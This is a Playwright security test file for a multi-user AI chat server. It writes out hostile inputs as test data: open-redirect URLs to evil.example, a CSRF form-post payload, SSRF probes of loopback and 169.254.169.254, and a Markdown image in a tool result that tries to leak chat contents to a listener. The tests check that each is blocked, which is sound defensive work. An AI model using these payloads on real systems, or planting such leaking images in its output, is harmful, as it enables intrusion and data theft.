// Hosting for a team (the external instance: real OIDC sign-in, several users): what a signed-in
// user's page, another site, or model output can and cannot make the server or the browser do.
// - the session endpoint carries no token; the sign-in page sends nobody off-site;
// - a mutation from another origin (a form post, a fetch from another localhost port) is a 403;
// - a model id the server does not offer is a 400 in words;
// - a user's endpoint on loopback is refused in the UI, and the listener there sees no connection;
// - the CSP keeps an image named in a tool result / model output from loading (a listener counts).
import { createServer, type Server } from "node:http";
import { type AddressInfo } from "node:net";

import { ProvidersPage } from "../pages/providers-page.ts";
import { EXTERNAL_APP_URL } from "../support/config.ts";
import { expect, test } from "../support/fixtures.ts";
import { trpcMutation, trpcQuery } from "../support/trpc-http.ts";

/** A loopback HTTP listener that counts every connection and request it gets. */
async function startListener(): Promise<{
  server: Server;
  url: string;
  connections: () => number;
  close(): Promise<void>;
}> {
  let connections = 0;
  const server = createServer((_req, res) => res.writeHead(200, { "content-type": "image/png" }).end());
  server.on("connection", () => (connections += 1));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    server,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    connections: () => connections,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test("the session endpoint carries the user's name and e-mail, and no token or id", async ({ page }) => {
  const response = await page.request.get("/api/auth/session");
  expect(response.status()).toBe(200);
  const text = await response.text();
  const body = JSON.parse(text) as { user?: Record<string, unknown>; expires?: string };
  expect(body.user).toEqual({ name: "Alice Example", email: "alice@example.test", image: null });
  expect(typeof body.expires).toBe("string");
  const cookies = await page.context().cookies();
  const token = cookies.find((cookie) => cookie.name.endsWith("authjs.session-token"))?.value;
  expect(token).toBeTruthy();
  expect(text).not.toContain(token!);
  expect(text).not.toMatch(/sessionToken|userId|"id"/);
});

test("the sign-in page sends a signed-in user to a path on this site only", async ({ page }) => {
  for (const callbackUrl of [
    "//evil.example/x",
    "/\\evil.example",
    "%2F%2Fevil.example",
    "/\t/evil.example",
    "https://evil.example/",
  ]) {
    await page.goto(`/sign-in?callbackUrl=${encodeURIComponent(callbackUrl)}`);
    await expect(page).toHaveURL(`${EXTERNAL_APP_URL}/`);
  }
  await page.goto(`/sign-in?callbackUrl=${encodeURIComponent("/settings/providers")}`);
  await expect(page).toHaveURL(`${EXTERNAL_APP_URL}/settings/providers`);
});

test("a mutation posted from another origin is refused with a 403 and does nothing", async ({ page, browser }) => {
  const title = `CSRF probe ${Date.now()}`;
  // A page served from another localhost port (same site, another origin), in a browser that holds
  // the user's cookies.
  const attacker = createServer((_req, res) =>
    res.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>elsewhere</title>"),
  );
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  const otherOrigin = `http://localhost:${(attacker.address() as AddressInfo).port}`;
  const other = await browser.newPage({ storageState: await page.context().storageState() });
  try {
    await other.goto(`${otherOrigin}/attack`);
    const isCreate = (response: { url(): string }) => response.url().includes("/api/trpc/session.create");

    // A fetch that needs no preflight (text/plain, with the user's cookies), as a hostile page sends it.
    // The browser sends it and withholds the answer from the page (CORS), so its effect is checked
    // below: nothing created.
    const fetchOutcome = await other.evaluate(
      async ({ app, title }) =>
        fetch(`${app}/api/trpc/session.create`, {
          method: "POST",
          credentials: "include",
          headers: { "content-type": "text/plain" },
          body: JSON.stringify({ json: { title } }),
        }).then(
          (response) => `answered ${response.status}`,
          () => "answer withheld by CORS",
        ),
      { app: EXTERNAL_APP_URL, title },
    );
    expect(fetchOutcome).toBe("answer withheld by CORS");

    // A plain HTML form post.
    const formResponse = other.waitForResponse(isCreate);
    await other.setContent(
      `<form method="post" action="${EXTERNAL_APP_URL}/api/trpc/session.create" enctype="text/plain">
         <input name='{"json":{"title":"${title}","x":"' value='"}}'></form>`,
    );
    await other.locator("form").evaluate((form: HTMLFormElement) => form.submit());
    const posted = await formResponse;
    expect(posted.status()).toBe(403);
    expect(await posted.text()).toContain(
      "This request came from another site and was refused: Patchbay only accepts changes from its own pages.",
    );
  } finally {
    await other.close();
    await new Promise((resolve) => attacker.close(resolve));
  }

  // The same request with a foreign Origin header, read directly: 403 in words.
  const foreign = await page.request.post("/api/trpc/session.create", {
    headers: { origin: "http://localhost:1", "content-type": "application/json" },
    data: { json: { title } },
  });
  expect(foreign.status()).toBe(403);
  expect(((await foreign.json()) as { message: string }).message).toMatch(/came from another site and was refused/);

  // Nothing was created by any of them.
  const list = await trpcQuery(page.request, "session.list");
  expect(JSON.stringify(list.data)).not.toContain(title);
});

test("a model id the server does not offer is refused with a 400 in words", async ({ page }) => {
  const created = await trpcMutation(page.request, "session.create", { title: "Unlisted id probe" });
  const sessionId = (created.data as { id: string }).id;
  const result = await trpcMutation(page.request, "chat.send", {
    sessionId,
    text: "run this on the operator's key",
    choice: { provider: "anthropic", model: "claude-unlisted-ultra", accountId: null },
  });
  expect(result.status).toBe(400);
  expect(result.error?.message).toBe(
    'The model "claude-unlisted-ultra" is not offered by this server. Pick a model from the list for this chat.',
  );
  const offered = await trpcMutation(page.request, "chat.send", {
    sessionId,
    text: "and this one is offered",
    choice: { provider: "anthropic", model: "claude-sonnet-4-5", accountId: null },
  });
  expect(offered.status).toBe(200);
});

test("a user's endpoint on loopback is refused, and nothing connects to it", async ({ page }) => {
  const inside = await startListener();
  try {
    const providers = new ProvidersPage(page);
    await providers.open();
    await providers.addEndpoint("Inside", `${inside.url}/v1`);
    await expect(page.getByRole("alert").filter({ hasText: "private network" })).toHaveText(
      "This endpoint is on a private network (a loopback, LAN or link-local address), which this server does not allow; an admin can allow it with PROVIDER_ALLOW_PRIVATE_URLS.",
    );
    await page.getByRole("button", { name: "Cancel" }).click();
    await providers.addEndpoint("Link-local", "http://169.254.169.254/v1");
    await expect(page.getByRole("alert").filter({ hasText: "private network" })).toContainText(
      "This endpoint is on a private network",
    );
    expect(inside.connections()).toBe(0);
    await expect(providers.account("Inside")).toHaveCount(0);
  } finally {
    await inside.close();
  }
});

test("the pages carry a strict CSP and no-referrer, no-framing headers", async ({ page }) => {
  const response = await page.request.get("/");
  const headers = response.headers();
  expect(headers["content-security-policy"]).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
  expect(headers["content-security-policy"]).toContain("img-src 'self' data: blob:");
  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["content-security-policy"]).not.toContain("unsafe-eval");
  expect(headers["referrer-policy"]).toBe("no-referrer");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const again = await page.request.get("/");
  expect(again.headers()["content-security-policy"]).not.toBe(headers["content-security-policy"]); // fresh nonce
});

test("an image named in a tool result is shown as a link and never requested", async ({ page, chat }) => {
  const collector = await startListener();
  const leak = `${collector.url}/pixel.png?chat=secret-plans`;
  const requested: string[] = [];
  const loaded: string[] = [];
  page.on("request", (request) => {
    if (request.url().startsWith(collector.url)) requested.push(request.url());
  });
  page.on("requestfinished", (request) => {
    if (request.url().startsWith(collector.url)) loaded.push(request.url());
  });
  try {
    await chat.openNewChat();
    await chat.switchConnector("everything", true);
    // The tool's result holds the image; echo mode then writes it into the answer as Markdown.
    await chat.send(`use tool everything_echo {"message":"![chart](${leak})"}`);
    await chat.expectLastAnswerDone();
    const link = chat.lastAnswer().getByTestId("blocked-image");
    await expect(link).toHaveText(`[Image: chart (${new URL(collector.url).host}), not loaded]`);
    await expect(link).toHaveAttribute("href", leak);
    await expect(link).toHaveAttribute("rel", "noopener noreferrer");
    await expect(chat.lastAnswer().locator("img")).toHaveCount(0);
    expect(requested).toEqual([]); // the page never even tried to load it

    // Even an <img> put into the page directly is blocked by the CSP.
    const violation = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), {
            once: true,
          });
          const img = document.createElement("img");
          img.src = `${src}&direct=1`;
          document.body.append(img);
          setTimeout(() => resolve("no violation"), 5_000);
        }),
      leak,
    );
    expect(violation).toBe("img-src");
    await page.waitForTimeout(500);
    expect(collector.connections()).toBe(0);
    expect(loaded).toEqual([]);
  } finally {
    await collector.close();
  }
});
